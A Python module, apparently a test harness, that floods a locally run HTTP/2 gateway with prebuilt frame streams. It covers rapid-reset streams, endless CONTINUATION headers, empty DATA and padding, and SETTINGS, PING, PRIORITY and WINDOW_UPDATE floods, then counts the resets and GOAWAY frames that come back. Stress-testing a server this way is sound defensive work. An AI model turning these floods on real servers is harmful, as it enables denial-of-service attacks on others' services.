"""Attacks over HTTP/2, each in a process of its own: bytes made beforehand, sent as fast as told to.

An attack is two functions: what opens a connection, and endless pieces of bytes, each so many units
(frames, or streams).
"""

import itertools
import multiprocessing
import select
import ssl
import time

import hpack

from . import http2

WINDOW_UPDATE, CONTINUATION, DATA, PRIORITY, RESET, SETTINGS, PING, GOAWAY = 8, 9, 0, 2, 3, 4, 6, 7
# Units in one piece: few enough to keep to a rate, many enough to be quick.
PIECE = 100
# Streams of one connection; then a client has to make a new one.
STREAMS = 2**31 // 2 - 1


def _blocks(authority, method="GET"):
    """A header block that teaches the decoder the request, and the short one for all that follow."""
    encoder = hpack.Encoder()
    fields = [(":method", method), (":scheme", "https"), (":authority", authority), (":path", "/public/x")]
    return http2.block(fields, encoder), http2.block(fields, encoder)


def _per_stream(frames, method):
    """Pieces of `frames(stream, block)` for one stream after the other."""
    def pieces(authority):
        longer, shorter = _blocks(authority, method)
        block = longer
        for start in itertools.count(1, 2 * PIECE):
            piece = []
            for stream in range(start, start + 2 * PIECE, 2):
                piece.append(frames(stream, block))
                block = shorter
            yield b"".join(piece)
    return pieces


def _reset_once_accepted(authority):
    """Each piece opens streams and resets those of the piece before: by then they have been accepted."""
    longer, shorter = _blocks(authority, "GET")
    block, before = longer, b""
    for start in itertools.count(1, 2 * PIECE):
        streams = range(start, start + 2 * PIECE, 2)
        opened = []
        for stream in streams:
            opened.append(http2.bare(1, 5, stream, block))
            block = shorter
        yield before + b"".join(opened)
        before = b"".join(http2.bare(RESET, 0, stream, b"\0\0\0\x08") for stream in streams)


def _same(opening, unit):
    """The same frame over and over."""
    def pieces(authority):
        yield opening(authority)
        piece = unit * PIECE
        while True:
            yield piece
    return pieces


def _open_stream(end_stream, end_headers=True):
    def opening(authority):
        longer, _ = _blocks(authority, "POST")
        return http2.raw_headers(1, longer, end_stream=end_stream, end_headers=end_headers)
    return opening


def _nothing(_):
    return b""


LITERAL = b"\x00\x01a\x01b"  # `a: b`, not kept in the table

ATTACKS = {
    "streams that are reset at once": _per_stream(
        lambda stream, block: http2.bare(1, 5, stream, block) + http2.bare(RESET, 0, stream, b"\0\0\0\x08"), "GET"),
    "requests that are reset once they were accepted": _reset_once_accepted,
    "streams that the server must reset for a window of nothing": _per_stream(
        lambda stream, block: http2.bare(1, 4, stream, block) + http2.bare(WINDOW_UPDATE, 0, stream, bytes(4)), "POST"),
    "streams that the server must reset for data behind their end": _per_stream(
        lambda stream, block: http2.bare(1, 5, stream, block) + http2.bare(DATA, 0, stream, b"x"), "POST"),
    "streams that the server must reset for too wide a window": _per_stream(
        lambda stream, block: http2.bare(1, 4, stream, block)
        + http2.bare(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"), "POST"),
    "streams that the server must reset for depending on themselves": _per_stream(
        lambda stream, block: http2.bare(1, 4, stream, block)
        + http2.bare(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\x10"), "POST"),
    "a head that never ends": _same(
        _open_stream(True, end_headers=False), http2.bare(CONTINUATION, 0, 1, LITERAL * 20)),
    "a head that never ends, in frames of nothing": _same(
        _open_stream(True, end_headers=False), http2.bare(CONTINUATION, 0, 1)),
    "data of nothing": _same(_open_stream(False), http2.bare(DATA, 0, 1)),
    "data of nothing but padding": _same(_open_stream(False), http2.bare(DATA, 8, 1, b"\0")),
    "settings": _same(_nothing, http2.bare(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff")),
    "pings": _same(_nothing, http2.bare(PING, 0, 0, b"vestibul")),
    "priorities": _same(_nothing, http2.bare(PRIORITY, 0, 1, bytes(4) + b"\x10")),
    "windows of the connection": _same(_nothing, http2.bare(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")),
    "windows of a stream": _same(_open_stream(False), http2.bare(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01")),
    "frames of no known kind": _same(_nothing, http2.bare(0xBB, 0, 0, b"x" * 16)),
}


class _Answers:
    """What comes back, counted by kind of frame."""

    def __init__(self):
        self.resets, self.goaway, self._buffer = 0, None, b""

    def read(self, data):
        self._buffer += data
        at = 0
        while len(self._buffer) >= at + 9:
            length = int.from_bytes(self._buffer[at:at + 3], "big")
            if len(self._buffer) < at + 9 + length:
                break
            kind = self._buffer[at + 3]
            if kind == RESET:
                self.resets += 1
            elif kind == GOAWAY:
                self.goaway = int.from_bytes(self._buffer[at + 13:at + 17], "big")
            at += 9 + length
        self._buffer = self._buffer[at:]


def _flood(connection, pieces, end, rate, answers):
    """Sends until the time is over or the connection is. Returns the units sent."""
    connection.setblocking(False)
    begin, units, rest = time.monotonic(), 0, memoryview(b"")
    while (now := time.monotonic()) < end:
        due = rate is None or units < rate * (now - begin)
        if not rest and due:
            rest = memoryview(next(pieces))
            units += PIECE
        try:
            if rest:
                rest = rest[connection.send(rest[:65_536]):]
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
            select.select([connection], [connection], [], 0.05)
        except OSError:
            return units
        try:
            while data := connection.recv(65_536):
                answers.read(data)
            return units
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            pass
        except OSError:
            return units
        if not rest and not due:
            select.select([connection], [], [], 0.002)
    return units


def _attack(name, door, seconds, rate, found):
    end = time.monotonic() + seconds
    units = connections = resets = 0
    goaways = set()
    while time.monotonic() < end:
        answers = _Answers()
        try:
            connection = door.connect()
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        connection.sendall(http2.PREFACE + http2.bare(SETTINGS, 0, 0))
        units += _flood(connection, ATTACKS[name](door.host), end, rate, answers)
        connection.close()
        resets += answers.resets
        goaways |= {answers.goaway} - {None}
    found.put({"units": units, "connections": connections, "resets": resets, "goaways": goaways})


class Door:
    """Where to attack: as much of a gateway as another process can be handed."""

    def __init__(self, gateway):
        self.port, self.host, self.certificate = gateway.port, gateway.host, str(gateway.certificate)

    def connect(self, receive_buffer=None):
        """A TLS connection that speaks HTTP/2."""
        import socket

        context = ssl.create_default_context(cafile=self.certificate)
        context.set_alpn_protocols(["h2"])
        raw = socket.socket()
        if receive_buffer:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        raw.settimeout(20)
        raw.connect(("127.0.0.1", self.port))
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return context.wrap_socket(raw, server_hostname="localhost")


class Attack:
    """An attack under way."""

    def __init__(self, name, gateway, seconds, rate=None):
        spawn = multiprocessing.get_context("spawn")
        self._found = spawn.Queue()
        self._process = spawn.Process(
            target=_attack, args=(name, Door(gateway), seconds, rate, self._found), daemon=True)
        self._process.start()

    def result(self):
        """What it did, once it is over."""
        found = self._found.get(timeout=120)
        self._process.join()
        return found
